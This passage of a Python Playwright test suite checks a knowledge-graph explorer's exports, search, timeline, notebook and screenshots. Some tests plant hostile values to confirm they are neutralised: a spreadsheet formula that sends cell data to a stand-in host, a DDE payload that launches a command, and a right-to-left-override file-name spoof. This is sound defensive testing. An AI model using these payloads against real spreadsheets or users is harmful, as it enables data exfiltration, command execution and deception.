        rows = list(csv.DictReader(f))
    assert {r["fact"] for r in rows} == shown
    for r in rows:
        u, v = next((u, v) for u, v, k in graph.edges(keys=True) if k == r["fact"])
        assert (r["subject"], r["object"]) == (graph.nodes[u]["id"], graph.nodes[v]["id"])
        quotes = [e.quote for e in graph.edges[u, v, r["fact"]]["evidence"]]
        assert r["quotes"] == " | ".join(quotes)
    # the Turtle parses in a strict parser, and every triple in it is one of the graph's
    exported = {
        pyoxigraph.Triple(q.subject, q.predicate, q.object)
        for q in pyoxigraph.parse(files["export-ttl"].read_bytes(), pyoxigraph.RdfFormat.TURTLE)
    }
    built = {
        pyoxigraph.Triple(q.subject, q.predicate, q.object)
        for q in pyoxigraph.parse((GRAPHS / "kg.nq").read_bytes(), pyoxigraph.RdfFormat.N_QUADS)
    }
    assert exported and exported <= built, sorted(map(str, exported - built))[:5]
    oa, prov = "http://www.w3.org/ns/oa#", "http://www.w3.org/ns/prov#"
    facts = {
        str(t.subject.value)
        for t in exported
        if str(t.predicate.value) == "https://w3id.org/vjkg/ontology#subject"
    }
    assert facts == shown
    derived = {
        str(t.subject.value) for t in exported if str(t.predicate.value) == prov + "wasDerivedFrom"
    }
    with_evidence = {k for u, v, k, ev in graph.edges(keys=True, data="evidence") if ev}
    assert derived == shown & with_evidence
    exacts = {
        " ".join(str(t.object.value).split())
        for t in exported
        if str(t.predicate.value) == oa + "exact"
    }
    quotes = {
        e.quote for u, v, k, ev in graph.edges(keys=True, data="evidence") if k in shown for e in ev
    }
    assert exacts == quotes
    # every fact shown, ranks and shares among them: each literal keeps the graph's datatype
    page.fill("#search", "")
    bundled.settle()
    with page.expect_download() as info:
        page.locator("#export-ttl").click()
    info.value.save_as(tmp_path / "all.ttl")
    every = {
        pyoxigraph.Triple(q.subject, q.predicate, q.object)
        for q in pyoxigraph.parse((tmp_path / "all.ttl").read_bytes(), pyoxigraph.RdfFormat.TURTLE)
    }
    ranks = [t for t in every if str(t.predicate.value).endswith("#rank")]
    assert ranks and every <= built, sorted(map(str, every - built))[:5]


def test_a_label_a_spreadsheet_would_run_is_saved_as_text_in_the_csv(
    browser: Browser, tmp_path: Path
) -> None:
    """A label such as =HYPERLINK(…) or @SUM(…) in "Facts (CSV)" would be a formula when the
    file is opened in a spreadsheet: such a cell starts with an apostrophe."""
    import csv

    nq = (GRAPHS / "kg.nq").read_text(encoding="utf-8")
    formulas = {
        '"Ministry of Economy, Trade and Industry"@en': '=HYPERLINK("http://e.example/?"&A1,"x")',
        '"Rapidus"@en': "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    for written, label in formulas.items():
        assert written in nq
        nq = nq.replace(written, '"' + label.replace('"', '\\"') + '"@en')
    (tmp_path / "f.nq").write_text(nq, encoding="utf-8")
    done = run_kg("html", str(tmp_path / "f.nq"), "-o", str(tmp_path / "f.html"))
    assert done.returncode == 0, done.stderr
    opened = open_page(browser, tmp_path / "f.html")
    with opened.page.expect_download() as info:
        opened.page.locator("#export-csv").click()
    info.value.save_as(tmp_path / "f.csv")
    with (tmp_path / "f.csv").open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    for label in formulas.values():
        assert "'" + label in cells and label not in cells
    assert not [c for c in cells if c and c[0] in "=+-@"]
    opened.page.context.close()


# ------------------------------------------------------------------ sources one click away


def test_a_quote_opens_in_its_source_highlighted_and_in_view(bundled: Opened, graph) -> None:
    page = bundled.page
    node = R + "rapidus"
    bundled.api(f"x.select({node!r})")
    page.wait_for_timeout(400)
    fact = page.locator("#details .fact").last
    context = fact.locator("blockquote").first
    assert context.locator(".ctx").count() >= 1  # the text before and after the quote
    quote = fact.locator(".quote-text").first.inner_text().strip("“”")
    fact.locator(".readbtn").first.click()
    reader = page.locator("#reader")
    reader.wait_for(state="visible")
    mark = page.locator("#reader-text mark")
    assert mark.count() == 1
    assert " ".join(mark.inner_text().split()) == quote
    # the whole source is there, and the mark is scrolled into the reader's view
    text = page.inner_text("#reader-text")
    assert len(text) > 5_000 and quote.split()[0] in text
    box, view = mark.bounding_box(), page.locator("#reader-text").bounding_box()
    assert box and view
    assert view["y"] <= box["y"] and box["y"] + min(box["height"], 40) <= view["y"] + view["height"]
    assert page.evaluate("document.getElementById('reader-text').scrollTop") > 0
    page.keyboard.press("Escape")
    assert not reader.is_visible()


# ------------------------------------------------------------------ search over what is said


def test_search_finds_figures_and_quotes_and_arrow_keys_move_through_results(
    bundled: Opened, graph
) -> None:
    page = bundled.page
    page.fill("#search", "800.000")
    bundled.settle()
    assert bundled.api("x.factMatches()") >= 1
    hits = page.locator("#results button")
    assert hits.count() >= 1
    assert "800.000" in (hits.first.get_attribute("title") or "")
    page.focus("#search")
    page.keyboard.press("ArrowDown")
    assert page.evaluate("document.activeElement === document.querySelector('#results button')")
    page.keyboard.press("Enter")
    bundled.settle()
    assert "800.000" in page.inner_text("#details")
    # arrows go down and back up through entity results
    page.fill("#search", "bo")
    bundled.settle()
    buttons = page.locator("#results button")
    assert buttons.count() >= 3
    page.focus("#search")
    for _ in range(3):
        page.keyboard.press("ArrowDown")
    third = buttons.nth(2)
    assert page.evaluate("document.activeElement.dataset.node") == third.get_attribute("data-node")
    page.keyboard.press("ArrowUp")
    assert page.evaluate("document.activeElement.dataset.node") == buttons.nth(1).get_attribute(
        "data-node"
    )
    page.keyboard.press("Enter")
    bundled.settle()
    assert bundled.api("x.selected()") == buttons.nth(1).get_attribute("data-node")


# ------------------------------------------------------------------ time


def _set_range(page: Page, which: str, value: int) -> None:
    page.locator(f"#timeline input[data-time={which}]").evaluate(
        "(box, v) => { box.value = v; box.dispatchEvent(new Event('input')); }", value
    )


def test_the_timeline_filters_facts_and_events_by_year(bundled: Opened, graph) -> None:
    page = bundled.page
    page.locator("#show-isolated").check()
    bundled.settle()
    assert page.locator("#timeline svg rect").count() >= 2
    # the year with the most dated facts in the bundled graph
    years = Counter(d["date"][:4] for _, _, d in graph.edges(data=True) if d["date"])
    year = int(max(sorted(years), key=lambda y: years[y]))
    _set_range(page, "from", year)
    _set_range(page, "to", year)
    bundled.settle()
    dated = {
        n
        for n in graph
        for ds in graph.nodes[n]["dates"].values()
        for d in ds
        if d[:4] == str(year)
    }
    expected = set()
    for u, v, k, d in graph.edges(keys=True, data=True):
        if (d["date"] or "")[:4] == str(year) or (not d["date"] and {u, v} & dated):
            expected.add(k)
    assert expected, f"the bundled graph has facts and events of {year}"
    assert set(bundled.api("x.drawnEdgeIds()")) == expected
    drawn = set(bundled.api("x.drawnIds()"))
    assert dated <= drawn
    assert drawn <= dated | {
        n for u, v, k in graph.edges(keys=True) if k in expected for n in (u, v)
    }
    assert f"{year}–{year}" in page.inner_text("#status")
    assert f"years={year}-{year}" in page.url
    page.get_by_role("button", name="Reset filters").click()
    bundled.settle()
    assert bundled.drawn_edges() == graph.number_of_edges()
    assert "years=" not in page.url


# ------------------------------------------------------------------ a readable overview


def test_places_can_be_hidden_and_each_class_has_its_colour(bundled: Opened, graph) -> None:
    from pipeline.vocab import top_class

    places = {n for n in graph if top_class(graph.nodes[n]["cls"]) == "Place"}
    assert places & set(bundled.api("x.drawnIds()"))
    bundled.page.locator("#show-places").uncheck()
    bundled.settle()
    assert not places & set(bundled.api("x.drawnIds()"))
    assert not _class_box(bundled, "Country").is_checked()
    colours = {c["name"]: c["color"] for c in _page_data(bundled.page)["classes"]}
    assert len(set(colours.values())) == len(colours)
    assert colours["Ministry"] != colours["GovernmentAgency"] != colours["GovernmentBody"]


def test_zoomed_out_only_hubs_are_named(bundled: Opened, graph) -> None:
    page = bundled.page
    scale = bundled.api("x.scale()")
    data = {n["id"]: n for n in _page_data(page)["nodes"]}
    fonts = page.evaluate(
        "Object.fromEntries(vjkgExplorer.drawnIds().map(id => [id, vjkgExplorer.drawnFont(id)]))"
    )
    named = {n for n, size in fonts.items() if size * scale >= 8}
    assert 0 < len(named) <= 16
    hubs = sorted(fonts, key=lambda n: data[n]["rank"])[:5]
    assert set(hubs) <= named  # the best-connected are the ones named


BIDI_TRIG = """\
@prefix vjkg: <https://w3id.org/vjkg/ontology#> .
@prefix res: <https://w3id.org/vjkg/resource/> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix dcterms: <http://purl.org/dc/terms/> .
res:spoof a vjkg:Company ; dcterms:identifier "spoof" ; rdfs:label "\u202egnp.exe"@en .
res:long a vjkg:Company ; dcterms:identifier "long" ; rdfs:label "%s"@en .
res:f1 a vjkg:Fact ; vjkg:subject res:spoof ; vjkg:relation vjkg:partnerOf ; vjkg:object res:long .
"""


def test_bidi_controls_are_neutralised_and_long_labels_clipped(
    browser: Browser, tmp_path: Path
) -> None:
    long_label = "Công ty " + "rất dài " * 1250
    (tmp_path / "bidi.ttl").write_text(BIDI_TRIG % long_label.strip(), encoding="utf-8")
    done = run_kg("html", str(tmp_path / "bidi.ttl"), "-o", str(tmp_path / "bidi.html"))
    assert done.returncode == 0, done.stderr
    opened = open_page(browser, tmp_path / "bidi.html")
    page = opened.page
    assert opened.api(f"x.label({R + 'spoof'!r})") == "gnp.exe"
    clipped = opened.api(f"x.label({R + 'long'!r})")
    assert len(clipped) <= 48 and clipped.endswith("…")
    opened.api(f"x.select({R + 'long'!r})")
    page.wait_for_timeout(300)
    assert page.inner_text("#details h3") == long_label.strip()  # the whole name, in the panel
    _no_sideways_scroll(page)
    opened.api(f"x.select({R + 'spoof'!r})")
    page.wait_for_timeout(300)
    assert page.inner_text("#details h3") == "gnp.exe"
    assert not re.search("[\u200e\u200f\u202a-\u202e\u2066-\u2069]", page.inner_text("body"))
    assert opened.blocked == [] and opened.errors == []
    page.context.close()


# ------------------------------------------------------------------ the notebook opens


def test_the_notebook_opens_in_jupyter_from_the_dev_set_up(
    browser: Browser, tmp_path: Path
) -> None:
    """`make notebook`'s command: Jupyter from .venv serves the tour, and it renders offline."""
    import os
    import secrets
    import subprocess
    import sys

    jupyter = Path(sys.executable).with_name("jupyter")
    assert jupyter.is_file(), "no Jupyter front end: `pip install -e '.[dev]'` installs notebook"
    token = secrets.token_hex(16)
    command = [str(jupyter), "notebook", "--no-browser", "--ServerApp.ip=127.0.0.1",
               "--ServerApp.port=0", f"--IdentityProvider.token={token}",
               f"--ServerApp.root_dir={ROOT / 'notebooks'}"]  # fmt: skip
    if os.geteuid() == 0:
        command.append("--allow-root")
    env = {**os.environ, "JUPYTER_RUNTIME_DIR": str(tmp_path / "runtime"),
           "JUPYTER_CONFIG_DIR": str(tmp_path / "config")}  # fmt: skip
    server = subprocess.Popen(command, env=env, stderr=subprocess.PIPE, text=True, cwd=ROOT)
    log: list[str] = []
    listening = threading.Event()

    def read_log() -> None:  # read all along: a full pipe would block the server
        assert server.stderr is not None
        for line in server.stderr:
            log.append(line)
            if re.search(r"http://127\.0\.0\.1:\d+/", line):
                listening.set()

    reader = threading.Thread(target=read_log, daemon=True)
    reader.start()
    try:
        assert listening.wait(120), "".join(log)
        found = next(re.search(r"http://127\.0\.0\.1:(\d+)/", x) for x in log if "127.0.0.1:" in x)
        assert found
        port = int(found.group(1))
        base = f"http://127.0.0.1:{port}"
        context = browser.new_context(viewport=VIEWPORT)
        outside: list[str] = []

        def only_local(route: Route) -> None:
            if route.request.url.startswith(base + "/"):
                route.continue_()
            else:
                outside.append(route.request.url)
                route.abort()

        context.route(re.compile(r"^(https?|wss?)://"), only_local)
        page = context.new_page()
        page.goto(f"{base}/notebooks/explore.ipynb?token={token}")
        heading = page.locator(".jp-Notebook .jp-MarkdownOutput h1").first
        heading.wait_for(timeout=60_000)
        assert "A guided tour of the vjkg knowledge graph" in heading.inner_text()
        cells = json.loads((ROOT / "notebooks" / "explore.ipynb").read_text("utf-8"))["cells"]
        page.wait_for_function(
            f"document.querySelectorAll('.jp-Notebook .jp-Cell').length === {len(cells)}",
            timeout=30_000,
        )
        assert outside == [], f"the notebook page fetched {outside}"
        context.close()
    finally:
        server.terminate()
        try:
            server.wait(timeout=30)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait(timeout=30)
        reader.join(timeout=10)


def test_the_overview_of_a_big_graph_speaks_vietnamese_too(
    browser: Browser, big_html: Path
) -> None:
    opened = open_page(browser, big_html.as_uri() + "#lang=vi")
    page = opened.page
    assert opened.api("x.mode()") == "overview"
    english = set().union(*(_words(v) for v in opened.api("x.strings('en')").values()))
    english -= set().union(*(_words(v) for v in opened.api("x.strings('vi')").values()))
    texts = [page.inner_text(s) for s in ("#status", "#actions", "#details", "#summary")]
    assert "Tổng quan" in texts[0] and "Hiện cả 5000" in texts[1]
    assert _english_left(texts, [], english) == set()
    page.get_by_role("button", name="Hiện cả 5000").click()
    page.wait_for_timeout(200)
    assert opened.api("x.mode()") == "all" and "all=1" in page.url
    assert _english_left([page.inner_text("#status")], [], english) == set()
    assert opened.blocked == [] and opened.errors == []
    page.context.close()


# ------------------------------------------------------------------ the picture in the README


def test_screenshot_for_the_readme(bundled: Opened, graph) -> None:
    # a hub of Vietnam–Japan cooperation (and no Japanese label: CI has no CJK font)
    bundled.page.fill("#search", "vietnam it day")
    bundled.settle()
    bundled.page.locator("#results button").first.click()
    bundled.page.wait_for_timeout(500)
    assert bundled.page.locator("#details h3").inner_text() == "Vietnam IT Day 2025"
    assert bundled.page.locator("#details .fact").count() > 5
    SCREENSHOT.parent.mkdir(exist_ok=True)
    bundled.page.screenshot(path=str(SCREENSHOT))
    data = SCREENSHOT.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 50_000


def test_phone_screenshots_for_the_readme(browser: Browser) -> None:
    """The overview in Vietnamese on a phone, and a fact's quote opened in its source."""
    opened = open_page(browser, BUNDLED, viewport={"width": 390, "height": 844})
    page = opened.page
    page.get_by_text("Tiếng Việt", exact=True).dispatch_event("click")
    opened.settle()
    assert page.evaluate("document.documentElement.lang") == "vi"
    shots = [ROOT / "docs" / "explorer-phone.png", ROOT / "docs" / "explorer-reader.png"]
    page.screenshot(path=str(shots[0]))
    page.locator("#open-controls").click()
    page.locator("#search").wait_for(state="visible")
    page.fill("#search", "800.000")
    opened.settle()
    page.locator("#results button[data-figure]").first.click()
    page.locator("#details .figure.hit .readbtn").first.click()
    page.locator("#reader mark").wait_for(state="visible")
    assert "800.000" in page.inner_text("#reader mark")
    page.screenshot(path=str(shots[1]))
    for shot in shots:
        data = shot.read_bytes()
        assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 10_000
    assert opened.blocked == [] and opened.errors == []
    page.context.close()
